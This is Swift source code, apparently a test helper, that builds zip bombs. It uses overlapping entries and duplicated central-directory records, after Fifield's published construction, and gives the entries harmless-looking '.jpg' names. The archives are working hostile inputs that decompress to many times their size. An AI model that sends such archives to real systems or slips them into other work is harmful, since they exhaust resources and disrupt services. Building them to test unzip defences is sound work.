/// Archives whose entries share data, so that they unpack to many times what they hold. The construction is that of David Fifield's
/// "A better zip bomb" (WOOT 2019).
enum OverlapBomb {
  /// Every entry's data takes in all entries behind it: a stored block quotes the next local header, and the stream goes on with the next entry's.
  static func quoted(count: Int) -> [UInt8] {
    var content = [UInt8](repeating: 0, count: 64 << 10)
    var entries = [entry(count - 1, ZipContent(deflated: content))]
    for number in (0..<count - 1).reversed() {
      var header: [UInt8] = []
      entries[0].localHeader().append(to: &header)
      var quoting = entries[0].content
      // A stored block that is not the last, with its length and the length's complement (RFC 1951, section 3.2.4).
      var block: [UInt8] = [0]
      block.append(littleEndian: UInt16(header.count))
      block.append(littleEndian: ~UInt16(header.count))
      content = header + content
      quoting.stream = block + header + quoting.stream
      quoting.size += UInt64(header.count)
      quoting.crc32 = CRC32.of(content)
      entries.insert(entry(number, quoting), at: 0)
    }
    let headers = entries
    return archive(writing: { writer in
      writer.add(headers[0].with { $0.isListed = false })
      var offset: UInt64 = 0
      for entry in headers {
        writer.list(entry.centralHeader(localHeaderOffset: offset))
        // The next one begins behind this one's header and the block's first five bytes.
        offset += UInt64(30 + entry.name.count + 5)
      }
    })
  }

  /// Every record of the directory leads to the same local header.
  static func full(count: Int) -> [UInt8] {
    archive(writing: { writer in
      let entry = entry(0, ZipContent(deflated: [UInt8](repeating: 0, count: 2 << 20)))
      writer.add(entry)
      for _ in 1..<count { writer.list(entry.centralHeader(localHeaderOffset: 0)) }
    })
  }

  private static func entry(_ number: Int, _ content: ZipContent) -> ZipEntry {
    ZipEntry("WO_1/meter-\(number).jpg", content)
  }
}
